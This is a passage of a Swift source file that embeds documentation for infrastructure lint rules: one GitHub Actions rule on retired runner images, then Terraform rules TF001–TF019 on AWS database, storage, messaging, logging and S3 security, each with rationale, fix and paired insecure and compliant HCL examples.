Reports a `runs-on` label — written directly or as a value of the matrix variable that `runs-on: ${{ matrix.X }}` reads — that names a retired GitHub-hosted image, at the label. The dated table: ubuntu-16.04 (retired 2021-09-20), ubuntu-18.04 (2023-04-03), ubuntu-20.04 (2025-04-15), windows-2016 (2022-03-15), windows-2019 (2025-06-30), macos-10.15 (2022-12-01), macos-11 (2024-06-28), macos-12 (2024-12-03), macos-13 (2025-12-04), including size variants such as `macos-13-xlarge`. Images in their deprecation window are reported as notes: ubuntu-22.04 (deprecation began 2026-09-17, retirement 2027-04-17). Jobs with a `self-hosted` label are skipped (custom labels may reuse these names).

## Why
GitHub removes an image after its deprecation period; jobs that ask for it queue until they time out or fail immediately, and during the deprecation window they suffer scheduled brown-outs.

## How to fix
Move to a current image (`ubuntu-24.04`, `windows-2025`, `macos-15`) or a `-latest` label if the job does not depend on the OS version.

## Example
Reported:
```yaml
jobs:
  build:
    runs-on: ubuntu-20.04
    steps:
      - run: make
```
Not reported:
```yaml
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: make
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF001.md", text: ###"""
---
id: TF001
title: RDS or Aurora storage is not encrypted
kind: hcl
severity: error
tags: [security]
security-severity: 8.0
references:
  - "AWS Foundational Security Best Practices RDS.3: RDS DB instances should have encryption at-rest enabled"
  - "AWS Foundational Security Best Practices RDS.27: RDS DB clusters should be encrypted at rest"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Overview.Encryption.html
equivalents:
  checkov: "CKV_AWS_16, CKV_AWS_96"
  trivy: "AWS-0080, AWS-0079"
---
Reports an `aws_db_instance` or `aws_rds_cluster` whose `storage_encrypted` is `false` or left out (the provider default is `false`). Read replicas, snapshot restores and point-in-time restores that leave the argument out are skipped, because they take the source's encryption; Aurora instances (`engine = "aurora-*"` on `aws_db_instance`) are judged on their cluster, and Aurora Serverless v1 is always encrypted.

## Why
An unencrypted database leaves its data files, automated backups, snapshots and read replicas readable to anyone who obtains a copy of the storage or a shared snapshot. Encryption at rest costs nothing extra and has no measurable performance cost, but it can only be chosen when the database is created: turning it on later means restoring from an encrypted snapshot copy, with downtime.

## How to fix
Set `storage_encrypted = true`. Add `kms_key_id` with a customer-managed key when access to the data must follow a key policy (cross-account snapshot sharing needs one). For an existing database, copy a snapshot with encryption on, restore it, and switch the application over.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted = false
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF002.md", text: ###"""
---
id: TF002
title: RDS instance is publicly accessible
kind: hcl
severity: error
tags: [security]
security-severity: 9.0
references:
  - "AWS Foundational Security Best Practices RDS.2: RDS DB instances should prohibit public access"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html#USER_VPC.Hiding
equivalents:
  checkov: CKV_AWS_17
  trivy: AWS-0180
---
Reports an `aws_db_instance` or `aws_rds_cluster_instance` with `publicly_accessible = true`.

## Why
A publicly accessible database gets a DNS name that resolves to a public IP address. Only its security group then stands between the database port and the internet's password-guessing and exploit traffic, and one over-wide ingress rule (see TF024) exposes it completely. Databases are rarely meant to be reached from outside the VPC.

## How to fix
Set `publicly_accessible = false` (the default) and place the database in private subnets. Reach it from the application's subnets, or for people through SSM Session Manager port forwarding, a bastion, or a VPN.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted   = true
  publicly_accessible = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted   = true
  publicly_accessible = false
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF003.md", text: ###"""
---
id: TF003
title: RDS backups are kept for less than 7 days
kind: hcl
severity: warning
tags: [reliability]
references:
  - "AWS Foundational Security Best Practices RDS.11: RDS instances should have automatic backups enabled (retention of at least 7 days)"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_WorkingWithAutomatedBackups.BackupRetention.html
equivalents:
  checkov: CKV_AWS_133
  trivy: AWS-0077
options:
  minimum-days: "The shortest acceptable retention in days (default 7)."
---
Reports an `aws_db_instance` or `aws_rds_cluster` whose `backup_retention_period` is below 7 days, is `0` (automated backups off), or is left out — the RDS API then keeps backups for 1 day. Read replicas and Aurora member instances are skipped: their backups belong to the source or the cluster.

## Why
Automated backups are what point-in-time recovery restores from. A corrupting migration or a bad deploy is often noticed days later; with one day of retention the last good state is already gone. Retention up to the database's size is free backup storage in most setups, so a week costs little.

## How to fix
Set `backup_retention_period = 7` or more (up to 35), and a `backup_window` outside peak hours. Keep longer-term copies with AWS Backup if policy requires months.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted       = true
  backup_retention_period = 1
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted       = true
  backup_retention_period = 14
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF004.md", text: ###"""
---
id: TF004
title: Database deletion protection is off
kind: hcl
severity: warning
tags: [reliability]
references:
  - "AWS Foundational Security Best Practices RDS.8: RDS DB instances should have deletion protection enabled"
  - "AWS Foundational Security Best Practices RDS.7: RDS clusters should have deletion protection enabled"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_DeleteInstance.html#USER_DeleteInstance.DeletionProtection
equivalents:
  checkov: "CKV_AWS_293, CKV_AWS_139"
  trivy: AWS-0177
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports an `aws_db_instance` or `aws_rds_cluster` whose `deletion_protection` is `false` or left out. When the environment is known not to be production (an `Environment` tag, provider `default_tags`, an `environment` variable or local, or the `environment` option), the finding is a note.

## Why
Without deletion protection one mistaken `terraform destroy`, a resource rename that forces replacement, or an API call deletes the database. Deletion protection makes AWS refuse the delete until someone turns it off on purpose.

## How to fix
Set `deletion_protection = true` on production databases. For throw-away environments, suppress with a reason or declare the environment (`tags = { Environment = "dev" }`) so the finding becomes a note.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted   = true
  deletion_protection = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF005.md", text: ###"""
---
id: TF005
title: Database deletion skips the final snapshot
kind: hcl
severity: warning
tags: [reliability]
references:
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_DeleteInstance.html
  - https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#skip_final_snapshot
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports an `aws_db_instance` or `aws_rds_cluster` with `skip_final_snapshot = true`. When the environment is known not to be production the finding is a note.

## Why
When a database is deleted, its automated backups go with it (unless retained explicitly). The final snapshot is then the only copy of the data; skipping it turns an accidental destroy into permanent data loss.

## How to fix
Set `skip_final_snapshot = false` (the default) and give `final_snapshot_identifier`. In short-lived test environments, declare the environment so the finding becomes a note, or suppress it with a reason.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted   = true
  skip_final_snapshot = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted         = true
  skip_final_snapshot       = false
  final_snapshot_identifier = "app-final"
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF006.md", text: ###"""
---
id: TF006
title: Production database runs in a single Availability Zone
kind: hcl
severity: warning
tags: [reliability]
references:
  - "AWS Foundational Security Best Practices RDS.5: RDS DB instances should be configured with multiple Availability Zones"
  - "AWS Foundational Security Best Practices RDS.15: RDS DB clusters should be configured for multiple Availability Zones"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Concepts.MultiAZ.html
equivalents:
  checkov: CKV_AWS_157
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports, in production only, an `aws_db_instance` without `multi_az = true`, and an Aurora `aws_rds_cluster` with exactly one `aws_rds_cluster_instance`. Production is decided, in order, by the rule's `environment` option, the resource's `Environment`/`Env`/`Stage` tag, the AWS provider's `default_tags`, then a variable or local named `environment`, `env` or `stage`: a value starting with `prod` (or `prd`, `live`) is production. When nothing says, the rule stays silent rather than guess.

## Why
A single-AZ database is down while its zone has an outage, during many maintenance operations, and for the time a failed host takes to be replaced — often tens of minutes to hours. Multi-AZ keeps a synchronous standby and fails over in about a minute. It doubles the instance price, which is why the rule only asks for it in production.

## How to fix
Set `multi_az = true` (RDS), or add a second `aws_rds_cluster_instance` (Aurora; instances spread across zones). Declare non-production environments with an `Environment` tag so they are not checked.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.m7g.large"
  allocated_storage = 100
  storage_encrypted = true
  tags = {
    Environment = "production"
  }
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.m7g.large"
  allocated_storage = 100
  storage_encrypted = true
  multi_az          = true
  tags = {
    Environment = "production"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF007.md", text: ###"""
---
id: TF007
title: Performance Insights data is not encrypted with a customer-managed key
kind: hcl
severity: note
tags: [security]
security-severity: 3.0
references:
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PerfInsights.Enabling.html
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PerfInsights.access-control.html
equivalents:
  checkov: CKV_AWS_354
  trivy: AWS-0078
---
Reports an `aws_db_instance`, `aws_rds_cluster_instance` or `aws_rds_cluster` with `performance_insights_enabled = true` and no `performance_insights_kms_key_id`.

## Why
Performance Insights keeps samples of the SQL your application runs, literals included, which can hold personal data. Without a key of your own it is encrypted with the AWS-managed `aws/rds` key, which every principal allowed to use RDS in the account can use: you cannot restrict or audit access to that data separately. This is a note because the data is encrypted either way.

## How to fix
Set `performance_insights_kms_key_id` to a customer-managed key (the one used for `kms_key_id` is fine). The key can only be chosen when Performance Insights is first enabled.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted            = true
  performance_insights_enabled = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted               = true
  performance_insights_enabled    = true
  performance_insights_kms_key_id = aws_kms_key.db.arn
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF008.md", text: ###"""
---
id: TF008
title: IAM database authentication is off
kind: hcl
severity: note
tags: [security]
security-severity: 3.0
references:
  - "AWS Foundational Security Best Practices RDS.10: IAM authentication should be configured for RDS instances"
  - "AWS Foundational Security Best Practices RDS.12: IAM authentication should be configured for RDS clusters"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/UsingWithRDS.IAMDBAuth.html
equivalents:
  checkov: "CKV_AWS_161, CKV_AWS_162"
  trivy: AWS-0176
---
Reports a MySQL, MariaDB or PostgreSQL `aws_db_instance` (not a replica or restore) or Aurora `aws_rds_cluster` whose `iam_database_authentication_enabled` is not `true`. Other engines do not support IAM authentication and are skipped. A note: password logins stored in Secrets Manager are a sound setup too.

## Why
With IAM authentication, applications and people log in with 15-minute tokens derived from their IAM identity: no long-lived database password to leak, and access is granted and revoked in IAM, with CloudTrail records. Enabling it does not disable passwords, so it can be adopted gradually.

## How to fix
Set `iam_database_authentication_enabled = true`, grant `rds-db:connect` to the roles that need it, and create database users with the `rds_iam` role (PostgreSQL) or the `AWSAuthenticationPlugin` (MySQL).

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted                   = true
  iam_database_authentication_enabled = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF009.md", text: ###"""
---
id: TF009
title: Automatic minor version upgrades are off
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices RDS.13: RDS automatic minor version upgrades should be enabled"
  - "AWS Foundational Security Best Practices RDS.35: RDS DB clusters should have automatic minor version upgrade enabled"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_UpgradeDBInstance.Upgrading.html#USER_UpgradeDBInstance.Upgrading.AutoMinorVersionUpgrades
equivalents:
  checkov: CKV_AWS_226
---
Reports an `aws_db_instance`, `aws_rds_cluster_instance` or `aws_rds_cluster` with `auto_minor_version_upgrade = false` (the default is `true`).

## Why
Minor engine versions carry security and bug fixes. With automatic upgrades off, a database keeps running a version with known vulnerabilities until someone remembers to upgrade it, and eventually AWS force-upgrades it at a time of its choosing.

## How to fix
Remove the argument or set it to `true`, and set `maintenance_window` to a quiet hour so upgrades happen when you expect them.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted          = true
  auto_minor_version_upgrade = false
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.t4g.small"
  allocated_storage = 20
  storage_type      = "gp3"
  username          = "app"
  manage_master_user_password = true
  storage_encrypted          = true
  auto_minor_version_upgrade = true
  maintenance_window         = "sun:04:00-sun:05:00"
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF010.md", text: ###"""
---
id: TF010
title: EBS volume is not encrypted
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Foundational Security Best Practices EC2.3: Attached Amazon EBS volumes should be encrypted at-rest"
  - "AWS Foundational Security Best Practices EC2.7: EBS default encryption should be enabled"
  - https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html
equivalents:
  checkov: "CKV_AWS_3, CKV_AWS_8"
  trivy: "AWS-0026, AWS-0131"
---
Reports an `aws_ebs_volume`, or a `root_block_device`/`ebs_block_device` of an `aws_instance`, whose `encrypted` is `false` or left out, and a launch template's EBS mapping with `encrypted = false`. Volumes created from a snapshot that leave `encrypted` out are skipped (they take the snapshot's state), and nothing is reported when the module enables `aws_ebs_encryption_by_default`.

## Why
An unencrypted volume's snapshots are unencrypted too, and can be shared or copied out of the account. Encryption is free, transparent to the instance, and can only be set when the volume is created.

## How to fix
Set `encrypted = true` (with `kms_key_id` for a customer-managed key), or turn on encryption by default for the account and region with `aws_ebs_encryption_by_default`.

## Example
Reported:
```hcl
resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 100
  type              = "gp3"
}
```
Not reported:
```hcl
resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 100
  type              = "gp3"
  encrypted         = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF011.md", text: ###"""
---
id: TF011
title: EFS file system is not encrypted
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Foundational Security Best Practices EFS.1: Elastic File System should be configured to encrypt file data at-rest using AWS KMS"
  - https://docs.aws.amazon.com/efs/latest/ug/encryption-at-rest.html
equivalents:
  checkov: CKV_AWS_42
  trivy: AWS-0037
---
Reports an `aws_efs_file_system` whose `encrypted` is `false` or left out (the API default is unencrypted, unlike the console's).

## Why
EFS file systems often hold uploads and shared application data. Encryption at rest is free and transparent, but it can only be chosen at creation: fixing it later means a new file system and a data copy.

## How to fix
Set `encrypted = true`, with `kms_key_id` for a customer-managed key.

## Example
Reported:
```hcl
resource "aws_efs_file_system" "shared" {
  creation_token = "shared"
}
```
Not reported:
```hcl
resource "aws_efs_file_system" "shared" {
  creation_token = "shared"
  encrypted      = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF012.md", text: ###"""
---
id: TF012
title: ElastiCache data is not encrypted at rest
kind: hcl
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "AWS Foundational Security Best Practices ElastiCache.4: ElastiCache replication groups should be encrypted at rest"
  - https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/at-rest-encryption.html
equivalents:
  checkov: CKV_AWS_29
  trivy: AWS-0045
---
Reports an `aws_elasticache_replication_group` whose `at_rest_encryption_enabled` is `false`, or left out with the Redis OSS engine (the provider turns it on by default only for Valkey).

## Why
Without encryption at rest, the cache's swap files and its backups in S3 are stored in clear. Sessions, tokens and queued jobs often pass through a cache. Encryption can only be chosen at creation.

## How to fix
Set `at_rest_encryption_enabled = true` (and `kms_key_id` for a customer-managed key); the group is replaced.

## Example
Reported:
```hcl
resource "aws_elasticache_replication_group" "cache" {
  replication_group_id = "app"
  description          = "Sessions and queues"
  engine               = "redis"
  node_type            = "cache.t4g.small"
  num_cache_clusters   = 2
}
```
Not reported:
```hcl
resource "aws_elasticache_replication_group" "cache" {
  replication_group_id = "app"
  description          = "Sessions and queues"
  engine               = "redis"
  node_type            = "cache.t4g.small"
  num_cache_clusters   = 2
  at_rest_encryption_enabled = true
  transit_encryption_enabled = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF013.md", text: ###"""
---
id: TF013
title: ElastiCache traffic is not encrypted in transit
kind: hcl
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "AWS Foundational Security Best Practices ElastiCache.5: ElastiCache replication groups should be encrypted in transit"
  - https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/in-transit-encryption.html
equivalents:
  checkov: CKV_AWS_30
  trivy: AWS-0051
---
Reports an `aws_elasticache_replication_group` whose `transit_encryption_enabled` is `false` or left out.

## Why
Without TLS, anyone who can capture traffic in the VPC (a compromised instance, a mirrored port) reads session data and credentials in clear, and Redis AUTH tokens cannot be used safely.

## How to fix
Set `transit_encryption_enabled = true`; migrate clients with `transit_encryption_mode = "preferred"` first, then `"required"`. Add an `auth_token` or RBAC user groups.

## Example
Reported:
```hcl
resource "aws_elasticache_replication_group" "cache" {
  replication_group_id = "app"
  description          = "Sessions and queues"
  engine               = "redis"
  node_type            = "cache.t4g.small"
  num_cache_clusters   = 2
  at_rest_encryption_enabled = true
}
```
Not reported:
```hcl
resource "aws_elasticache_replication_group" "cache" {
  replication_group_id = "app"
  description          = "Sessions and queues"
  engine               = "redis"
  node_type            = "cache.t4g.small"
  num_cache_clusters   = 2
  at_rest_encryption_enabled = true
  transit_encryption_enabled = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF014.md", text: ###"""
---
id: TF014
title: SNS topic is not encrypted
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices SNS.1: SNS topics should be encrypted at-rest using AWS KMS"
  - https://docs.aws.amazon.com/sns/latest/dg/sns-server-side-encryption.html
equivalents:
  checkov: CKV_AWS_26
  trivy: AWS-0095
---
Reports an `aws_sns_topic` without `kms_master_key_id`: SNS does not encrypt messages at rest by default.

## Why
Messages wait on SNS's disks until delivered; notifications often carry order details, user e-mail addresses or alert payloads. Server-side encryption keeps them encrypted at rest under a key whose use CloudTrail records.

## How to fix
Set `kms_master_key_id = "alias/aws/sns"`, or a customer-managed key whose policy lets the publishing services (CloudWatch alarms, EventBridge…) use it — the AWS-managed key cannot be granted to them.

## Example
Reported:
```hcl
resource "aws_sns_topic" "alerts" {
  name = "alerts"
}
```
Not reported:
```hcl
resource "aws_sns_topic" "alerts" {
  name              = "alerts"
  kms_master_key_id = aws_kms_key.alerts.id
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF015.md", text: ###"""
---
id: TF015
title: SQS queue encryption is turned off
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices SQS.1: Amazon SQS queues should be encrypted at rest"
  - https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-server-side-encryption.html
equivalents:
  checkov: CKV_AWS_27
  trivy: AWS-0096
---
Reports an `aws_sqs_queue` with `sqs_managed_sse_enabled = false` and no `kms_master_key_id`. Since October 2022 new queues are encrypted with SSE-SQS by default, so a queue that says nothing is not reported (Checkov and Trivy still report it).

## Why
Turning SSE-SQS off stores queued messages — often job payloads with personal data — in clear on SQS's side, for no benefit: SSE-SQS is free and transparent to producers and consumers.

## How to fix
Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` for a customer-managed key.

## Example
Reported:
```hcl
resource "aws_sqs_queue" "jobs" {
  name                    = "jobs"
  sqs_managed_sse_enabled = false
}
```
Not reported:
```hcl
resource "aws_sqs_queue" "jobs" {
  name = "jobs"
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF016.md", text: ###"""
---
id: TF016
title: CloudWatch log group is not encrypted with a customer-managed key
kind: hcl
severity: note
tags: [security]
security-severity: 3.0
references:
  - https://docs.aws.amazon.com/AmazonCloudWatch/latest/logs/encrypt-log-data-kms.html
equivalents:
  checkov: CKV_AWS_158
  trivy: AWS-0017
---
Reports an `aws_cloudwatch_log_group` without `kms_key_id`. A note: CloudWatch Logs always encrypts log data, with a service-owned key when none is given.

## Why
Application logs leak more than intended — request bodies, tokens in URLs, stack traces with personal data. With a customer-managed key, reading the logs also requires `kms:Decrypt` on that key, so access can be restricted and audited separately from `logs:*` permissions.

## How to fix
Create a KMS key whose policy allows the `logs.<region>.amazonaws.com` principal (with an `kms:EncryptionContext:aws:logs:arn` condition) and set `kms_key_id` on the log group.

## Example
Reported:
```hcl
resource "aws_cloudwatch_log_group" "app" {
  name              = "/ecs/app"
  retention_in_days = 30
}
```
Not reported:
```hcl
resource "aws_cloudwatch_log_group" "app" {
  name              = "/ecs/app"
  retention_in_days = 30
  kms_key_id        = aws_kms_key.logs.arn
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF017.md", text: ###"""
---
id: TF017
title: S3 bucket ACL grants public access
kind: hcl
severity: error
tags: [security]
security-severity: 9.0
references:
  - "AWS Foundational Security Best Practices S3.2: S3 general purpose buckets should block public read access"
  - "AWS Foundational Security Best Practices S3.3: S3 general purpose buckets should block public write access"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/about-object-ownership.html
equivalents:
  checkov: "CKV_AWS_20, CKV_AWS_57"
  trivy: AWS-0092
---
Reports an `acl` of `public-read`, `public-read-write` or `authenticated-read` on `aws_s3_bucket` or `aws_s3_bucket_acl`, and `access_control_policy` grants to the `AllUsers` or `AuthenticatedUsers` groups.

## Why
These ACLs let anyone on the internet (or any AWS account, for `authenticated-read`) list and read the bucket — or, with `public-read-write`, replace its content. Public buckets are one of the most common causes of data leaks. ACLs are disabled by default on buckets created since April 2023; re-enabling them for public access is almost always a mistake.

## How to fix
Remove the ACL and keep `object_ownership = "BucketOwnerEnforced"`. Serve public content through CloudFront with origin access control, or share single objects with presigned URLs.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_acl" "assets" {
  bucket = aws_s3_bucket.assets.id
  acl    = "public-read"
}
```
Not reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_ownership_controls" "assets" {
  bucket = aws_s3_bucket.assets.id
  rule {
    object_ownership = "BucketOwnerEnforced"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF018.md", text: ###"""
---
id: TF018
title: S3 bucket policy allows any principal
kind: hcl
severity: error
tags: [security]
security-severity: 9.0
references:
  - "AWS Foundational Security Best Practices S3.2: S3 general purpose buckets should block public read access"
  - "AWS Foundational Security Best Practices S3.3: S3 general purpose buckets should block public write access"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html#access-control-block-public-access-policy-status
equivalents:
  checkov: CKV_AWS_70
  trivy: AWS-0093
---
Reports an `Allow` statement with principal `"*"` or `{"AWS": "*"}` and no `Condition` in the policy of `aws_s3_bucket_policy` (or the legacy `policy` of `aws_s3_bucket`). The policy may be `jsonencode({...})`, a JSON string or heredoc, or a `data "aws_iam_policy_document"` (the finding then points at the statement).

## Why
An unconditional allow to `*` makes the bucket public: anyone on the internet can perform the allowed actions, without credentials. A condition (source VPC endpoint, organization id, CloudFront distribution ARN) is what keeps such a statement private.

## How to fix
Name the principals (accounts, roles, or a service principal such as `cloudfront.amazonaws.com`) and add a condition like `AWS:SourceArn` for service principals. Keep the bucket's public access block on so S3 rejects public policies.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_policy" "assets" {
  bucket = aws_s3_bucket.assets.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = "*"
      Action    = "s3:GetObject"
      Resource  = "${aws_s3_bucket.assets.arn}/*"
    }]
  })
}
```
Not reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_policy" "assets" {
  bucket = aws_s3_bucket.assets.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { Service = "cloudfront.amazonaws.com" }
      Action    = "s3:GetObject"
      Resource  = "${aws_s3_bucket.assets.arn}/*"
      Condition = { StringEquals = { "AWS:SourceArn" = aws_cloudfront_distribution.cdn.arn } }
    }]
  })
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF019.md", text: ###"""
---
id: TF019
title: S3 bucket public access block missing or incomplete
kind: hcl
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "AWS Foundational Security Best Practices S3.8: S3 general purpose buckets should block public access"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html
  - https://aws.amazon.com/about-aws/whats-new/2022/12/amazon-s3-automatically-enable-block-public-access-disable-access-control-lists-buckets-april-2023/
equivalents:
  checkov: "CKV2_AWS_6, CKV_AWS_53, CKV_AWS_54, CKV_AWS_55, CKV_AWS_56"
  trivy: "AWS-0094, AWS-0086, AWS-0087, AWS-0091"
---
Reports an `aws_s3_bucket_public_access_block` that leaves any of `block_public_acls`, `block_public_policy`, `ignore_public_acls`, `restrict_public_buckets` false or unset (warning), and an `aws_s3_bucket` with no public access block referring to it (note). The missing-block check needs the whole module: it runs when the linted file has no other Terraform file beside it (or when the directory pass combines them), is silenced by an account-wide `aws_s3_account_public_access_block` with all four settings on, and by a block whose `bucket` cannot be traced.

## Why
The public access block is the switch that stops a later ACL or policy change from making the bucket public. Since April 2023 S3 turns it on for new buckets, which is why a missing block is only a note: declaring it keeps it on when someone flips it in the console, and documents the intent. A block with a setting off, on the other hand, deliberately re-opens a path to public access.

## How to fix
Add an `aws_s3_bucket_public_access_block` for each bucket with the four settings `true`. For a bucket that must be public (a static website), serve it through CloudFront instead; if it truly must be public, suppress the finding with the reason.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_public_access_block" "assets" {
  bucket                  = aws_s3_bucket.assets.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = false
}
```
Not reported:
```hcl
